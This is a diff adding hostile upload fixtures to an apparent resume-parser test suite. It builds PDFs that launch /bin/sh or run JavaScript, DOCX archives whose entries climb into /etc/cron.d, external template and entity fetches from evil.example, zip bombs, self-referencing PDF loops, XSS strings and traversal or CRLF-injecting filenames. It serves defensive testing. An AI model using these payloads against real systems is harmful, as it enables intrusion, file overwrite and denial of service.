@@ -153,3 +153,143 @@ HOSTILE: list[tuple[str, Callable[[], bytes], set[str]]] = [
     ),
     ("a PDF whose pages are their own children", lambda: LOOP, {"damaged", "mute"}),
 ]
+
+
+def acting() -> bytes:
+    """A PDF with words and with all that a viewer may be told to do."""
+    content = b"BT /F1 12 Tf 72 700 Td (Customer service representative, Zendesk) Tj ET"
+    return raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
+        b" /AA << /WC << /S /Launch /F (/bin/sh) >> >> >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>"
+        b" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>] >>",
+        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    )
+
+
+def endless_form() -> bytes:
+    """A PDF whose page draws a form that draws itself."""
+    page = ONE_PAGE[2].replace(b"/Contents", b"/Resources << /XObject << /X 5 0 R >> >> /Contents")
+    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >> /Length 5 >>"
+    return raw_pdf(
+        *ONE_PAGE[:2],
+        page,
+        b"<< /Length 5 >>\nstream\n/X Do\nendstream",
+        form + b"\nstream\n/X Do\nendstream",
+    )
+
+
+def table_loop() -> bytes:
+    """A PDF whose table names itself as the one before."""
+    body = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
+    return (
+        body
+        + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 2 /Prev %d >>\n" % len(body)
+        + (b"startxref\n%d\n%%%%EOF\n" % len(body))
+    )
+
+
+def nested_arrays() -> bytes:
+    return raw_pdf(*ONE_PAGE, b"[" * 500_000 + b"]" * 500_000)
+
+
+def climbing() -> bytes:
+    """A DOCX whose parts are named to land elsewhere; what it says can be read."""
+    said = f"<w:document {W}><w:body>{paragraph('Customer service, Zendesk')}</w:body></w:document>"
+    names = ("../../../../etc/cron.d/hostile", "/etc/hostile", "..\\..\\hostile.txt", "word/../../hostile")
+    return zipped({"word/document.xml": said.encode()} | dict.fromkeys(names, b"* * * * * root true"))
+
+
+def remote_parts() -> bytes:
+    """A DOCX that asks for a template and a picture from elsewhere."""
+    said = f"<w:document {W}><w:body>{paragraph('Customer service, Zendesk')}</w:body></w:document>"
+    link = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+        'Type="attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+    )
+    return zipped({"word/document.xml": said.encode(), "word/_rels/settings.xml.rels": link.encode()})
+
+
+def parameter_entities() -> bytes:
+    said = b'<!DOCTYPE d [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]><d>Customer service</d>'
+    return zipped({"word/document.xml": said})
+
+
+def zips_in_zips() -> bytes:
+    inner = zipped({"0": bytes(2**20)})
+    for level in range(6):
+        inner = zipped({f"{level}/{number}.zip": inner for number in range(10)})
+    return zipped({"word/document.xml": inner})
+
+
+def both_kinds() -> bytes:
+    """A PDF that is a zip, too."""
+    return acting() + word(paragraph("Customer service"))
+
+
+def markup() -> bytes:
+    return (
+        b"Customer service, Zendesk. </textarea></title><script>alert(1)</script><img src=x onerror=alert(1)>"
+    )
+
+
+READ, REFUSED = True, False
+# Name of the case, name of the file, its bytes, whether it is read or refused in words.
+UPLOADS: list[tuple[str, str, Callable[[], bytes], bool]] = [
+    *((name, "resume", make, REFUSED) for name, make, _ in HOSTILE),
+    ("a PDF with a password", "cv.pdf", encrypted, REFUSED),
+    ("a DOCX with a password", "cv.docx", locked_zip, REFUSED),
+    ("a PDF that acts", "cv.pdf", acting, READ),
+    ("a PDF whose form draws itself", "cv.pdf", endless_form, REFUSED),
+    ("a PDF whose table is a loop", "cv.pdf", table_loop, REFUSED),
+    ("a PDF of nested arrays", "cv.pdf", nested_arrays, REFUSED),
+    ("half a PDF", "cv.pdf", lambda: pdf(lines)[:400], REFUSED),
+    ("a PDF of noise", "cv.pdf", lambda: b"%PDF-1.7\n" + NOISE, REFUSED),
+    ("a scan", "cv.pdf", lambda: pdf(scan), REFUSED),
+    ("a DOCX with climbing names", "cv.docx", climbing, READ),
+    ("a DOCX that asks elsewhere", "cv.docx", remote_parts, READ),
+    ("a DOCX of parameter entities", "cv.docx", parameter_entities, REFUSED),
+    ("zips in zips", "cv.docx", zips_in_zips, REFUSED),
+    ("a zip by another name", "cv.docx", lambda: zipped({"a.txt": b"Customer service"}), REFUSED),
+    ("half a DOCX", "cv.docx", lambda: word(paragraph("whole"))[:-30], REFUSED),
+    ("a PDF that is a zip", "cv.pdf", both_kinds, READ),
+    ("a picture", "cv.pdf", lambda: b"\x89PNG\r\n\x1a\n" + bytes(500), REFUSED),
+    ("a web page", "cv.docx", lambda: b"<!DOCTYPE html><script>alert(1)</script>Customer service", REFUSED),
+    ("a picture of lines", "cv.txt", lambda: b"<svg xmlns='x' onload='alert(1)'>Zendesk calls</svg>", READ),
+    ("an RTF", "cv.doc", lambda: rb"{\rtf1 {\object\objdata 0105} Customer service}", REFUSED),
+    ("an old Word file", "cv.doc", lambda: OLE + "WordDocument".encode("utf-16-le"), REFUSED),
+    ("a program", "cv.txt", lambda: b"\x7fELF\x02\x01" + bytes(range(256)), REFUSED),
+    ("nothing", "cv.pdf", lambda: b"", REFUSED),
+    ("zeros", "cv.pdf", lambda: bytes(2**20), REFUSED),
+    ("five megabytes of spaces", "cv.txt", lambda: b" " * (5 * 2**20), REFUSED),
+    ("a byte too many", "cv.txt", lambda: b"x" * (5 * 2**20 + 1), REFUSED),
+    ("far too many bytes", "cv.txt", lambda: b"x" * (7 * 2**20), REFUSED),
+    ("one word without end", "cv.txt", lambda: b"zendesk" * 700_000, REFUSED),
+    ("lines without words", "cv.txt", lambda: b"-\n" * 2_000_000, REFUSED),
+    ("letters apart without end", "cv.txt", lambda: b"C A L L " * 600_000, REFUSED),
+    ("words cut without end", "cv.txt", lambda: b"cus-\ntomer-\n" * 400_000, READ),
+    ("combining characters", "cv.txt", ("Zendesk " + "e\u0301" * 1_000_000).encode, READ),
+    ("an escape for terminals", "cv.txt", lambda: b"\x1b]0;hostile\x07 customer service, Zendesk", REFUSED),
+    (
+        "another spelling of markup",
+        "cv.txt",
+        lambda: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4- Zendesk",
+        READ,
+    ),
+    ("half a pair in UTF-16", "cv.txt", lambda: b"\xff\xfe" + b"Z\0e\0\x00\xd8" * 50, REFUSED),
+    ("markup", "cv.txt", markup, READ),
+]
+NAMES = (
+    "../../x<script>alert(1)</script>.pdf",
+    "..\\..\\boot.ini",
+    "/etc/passwd",
+    "'><x-hostile>.pdf",
+    "\u202efdp.exe",
+    "a\x01\x1b[31m\x7f.pdf",
+    "n" * 5_000 + ".pdf",
+    "cv.pdf%0D%0AX-Hostile: 1",
+    "{{ config }}.pdf",
+    "%00%2e%2e%2f.pdf",
+)
